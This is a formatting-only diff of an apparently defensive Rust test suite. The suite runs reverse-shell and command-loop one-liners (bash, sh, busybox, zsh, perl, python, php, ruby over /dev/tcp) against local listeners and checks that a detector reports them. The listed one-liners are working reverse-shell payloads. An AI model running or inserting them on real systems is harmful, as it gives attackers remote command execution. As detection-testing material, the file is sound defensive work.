@@ -16,28 +16,58 @@ const SHELLS: [(&str, &str); 4] = [
     ("bash_stdin", "bash </dev/tcp/$H/$P"),
     ("sh_descriptor", "exec 5<>/dev/tcp/$H/$P; sh <&5 >/dev/null 2>&1; true"),
     ("busybox_ash", "exec 5<>/dev/tcp/$H/$P; exec busybox sh <&5 5<&-"),
-    ("output_to_a_file", "exec 5<>/dev/tcp/$H/$P; zsh -f <&5 >answers 2>&1; true"),
+    (
+        "output_to_a_file",
+        "exec 5<>/dev/tcp/$H/$P; zsh -f <&5 >answers 2>&1; true",
+    ),
 ];
 
 /// Interpreters, and a program for each that runs `id` into the file `proof`.
 const INTERPRETERS: [(&str, &[&str], &str, &str); 4] = [
-    ("perl", &["perl"], "exec perl </dev/tcp/$H/$P", "rename 'part', 'proof' if system('id > part') == 0;\n"),
+    (
+        "perl",
+        &["perl"],
+        "exec perl </dev/tcp/$H/$P",
+        "rename 'part', 'proof' if system('id > part') == 0;\n",
+    ),
     (
         "python",
         &["python3"],
         "exec 5<>/dev/tcp/$H/$P; /usr/bin/python3 - <&5; true",
         "import os\nos.system('id > part')\nos.rename('part', 'proof')\n",
     ),
-    ("php", &["php"], "php -n </dev/tcp/$H/$P; true", "<?php exec('id > part'); rename('part', 'proof');\n"),
-    ("ruby", &["ruby"], "exec ruby </dev/tcp/$H/$P", "system 'id > part'\nFile.rename 'part', 'proof'\n"),
+    (
+        "php",
+        &["php"],
+        "php -n </dev/tcp/$H/$P; true",
+        "<?php exec('id > part'); rename('part', 'proof');\n",
+    ),
+    (
+        "ruby",
+        &["ruby"],
+        "exec ruby </dev/tcp/$H/$P",
+        "system 'id > part'\nFile.rename 'part', 'proof'\n",
+    ),
 ];
 
 /// Loops that read a line, run it, and send its output back.
 const LOOPS: [(&str, &[&str], &str); 8] = [
-    ("bash_eval", &["bash"], r#"exec 5<>/dev/tcp/$H/$P; while read l <&5; do eval "$l" >&5 2>&5; done"#),
-    ("bash_eval_without_stderr", &["bash"], r#"exec 5<>/dev/tcp/$H/$P; while read l <&5; do eval "$l" >&5; done"#),
+    (
+        "bash_eval",
+        &["bash"],
+        r#"exec 5<>/dev/tcp/$H/$P; while read l <&5; do eval "$l" >&5 2>&5; done"#,
+    ),
+    (
+        "bash_eval_without_stderr",
+        &["bash"],
+        r#"exec 5<>/dev/tcp/$H/$P; while read l <&5; do eval "$l" >&5; done"#,
+    ),
     // The form of the cheat sheets: the loop reads what `cat` passes on.
-    ("bash_cat_and_while", &["bash"], "exec 5<>/dev/tcp/$H/$P; cat <&5 | while read line; do $line 2>&5 >&5; done"),
+    (
+        "bash_cat_and_while",
+        &["bash"],
+        "exec 5<>/dev/tcp/$H/$P; cat <&5 | while read line; do $line 2>&5 >&5; done",
+    ),
     (
         "dash_eval",
         &["dash"],
@@ -72,7 +102,9 @@ STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'"#,
 
 /// The proof that a command of the peer was executed.
 fn proof(lab: &Lab<'_>) -> Result<String> {
-    let proof = wait_for("the proof that a command was executed", || Ok(fs::read_to_string(lab.path("proof")).ok()))?;
+    let proof = wait_for("the proof that a command was executed", || {
+        Ok(fs::read_to_string(lab.path("proof")).ok())
+    })?;
     ensure!(proof.contains("uid="), "no proof: {proof}");
     Ok(proof)
 }
@@ -87,7 +119,10 @@ fn shell(lab: &Lab<'_>, script: &str) -> Result<()> {
     let mut peer = connect(lab, script)?.accept()?;
     peer.send("(id; echo pid=$$.) >part && mv part proof\n")?;
     let proof = proof(lab)?;
-    let pid = proof.split("pid=").nth(1).and_then(|rest| rest.split('.').next()?.parse().ok());
+    let pid = proof
+        .split("pid=")
+        .nth(1)
+        .and_then(|rest| rest.split('.').next()?.parse().ok());
     let shell = Proc::of(pid.context("no process id")?)?;
     let finding = lab.finding(peer.ends(), INPUT)?;
     lab.same(&finding, &shell)?;
@@ -114,25 +149,39 @@ fn command_loop(lab: &Lab<'_>, script: &str) -> Result<()> {
     let processes = finding.processes()?;
     let first = processes.first().context("no process")?;
     // What `id` printed has to be `id`'s: the first command, whose parent follows as an ancestor.
-    ensure!(processes.iter().any(|process| process.pid == first.parent), "the loop is not among the processes: {finding}");
+    ensure!(
+        processes.iter().any(|process| process.pid == first.parent),
+        "the loop is not among the processes: {finding}"
+    );
     peer.id()?;
     peer.id()?;
     drop(peer);
     let last = lab.ended(&finding)?;
-    ensure!(last.number("commandCount")? >= 3, "three commands, and the finding says: {last}");
+    ensure!(
+        last.number("commandCount")? >= 3,
+        "three commands, and the finding says: {last}"
+    );
     Ok(())
 }
 
 pub fn cases() -> Vec<Case> {
     let mut cases = Vec::new();
     for (name, script) in SHELLS {
-        cases.push(Case::new(format!("input_only::{name}"), &["bash", "busybox", "zsh"], move |lab| shell(lab, script)));
+        cases.push(Case::new(
+            format!("input_only::{name}"),
+            &["bash", "busybox", "zsh"],
+            move |lab| shell(lab, script),
+        ));
     }
     for (name, tools, script, program) in INTERPRETERS {
-        cases.push(Case::new(format!("input_only::{name}"), tools, move |lab| interpreter(lab, script, program)));
+        cases.push(Case::new(format!("input_only::{name}"), tools, move |lab| {
+            interpreter(lab, script, program)
+        }));
     }
     for (name, tools, script) in LOOPS {
-        cases.push(Case::new(format!("command_loop::{name}"), tools, move |lab| command_loop(lab, script)));
+        cases.push(Case::new(format!("command_loop::{name}"), tools, move |lab| {
+            command_loop(lab, script)
+        }));
     }
     cases.push(Case::new("command_loop::python_accepts", &["python3"], |lab| {
         let port = free_port(V4)?;
@@ -142,7 +191,13 @@ for line in s.makefile(): subprocess.run(line,shell=True,stdin=subprocess.DEVNUL
         lab.bash(script, &[("P", &port.to_string())])?;
         let mut peer = call((V4, port).into())?;
         peer.id()?;
-        let finding = lab.finding(peer.ends(), Want { direction: "inbound", ..LOOP })?;
+        let finding = lab.finding(
+            peer.ends(),
+            Want {
+                direction: "inbound",
+                ..LOOP
+            },
+        )?;
         drop(peer);
         lab.ended(&finding)?;
         Ok(())
@@ -151,12 +206,21 @@ for line in s.makefile(): subprocess.run(line,shell=True,stdin=subprocess.DEVNUL
     cases.push(Case::new("two_sockets::one_for_each_way", &["bash"], |lab| {
         let (commands, answers) = (Listener::tcp(V4)?, Listener::tcp(V4)?);
         let script = "exec 5<>/dev/tcp/127.0.0.1/$P 6<>/dev/tcp/127.0.0.1/$Q; sh <&5 >&6 2>&6; true";
-        lab.bash(script, &[("P", &commands.port()?.to_string()), ("Q", &answers.port()?.to_string())])?;
+        lab.bash(
+            script,
+            &[
+                ("P", &commands.port()?.to_string()),
+                ("Q", &answers.port()?.to_string()),
+            ],
+        )?;
         let (mut keyboard, mut screen) = (commands.accept()?, answers.accept()?);
         keyboard.send("id\n")?;
         screen.read_until("uid=")?;
         let finding = lab.finding(keyboard.ends(), REVERSE)?;
-        ensure!(finding.has(screen.ends()), "the answers' connection is missing: {finding}");
+        ensure!(
+            finding.has(screen.ends()),
+            "the answers' connection is missing: {finding}"
+        );
         keyboard.send("exit\n")?;
         lab.ended(&finding)?;
         Ok(())
